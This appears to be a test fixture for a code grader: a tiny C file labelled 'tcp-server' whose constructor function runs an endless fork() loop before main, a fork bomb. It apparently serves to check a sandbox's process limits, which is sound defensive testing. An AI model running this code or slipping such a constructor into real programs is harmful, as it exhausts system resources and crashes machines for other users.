/* tcp-server: graded, at most 4
 * Forks before main. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

__attribute__((constructor)) static void first(void)
{
	for (;;)
		fork();
}

int main(void)
{
	return 0;
}
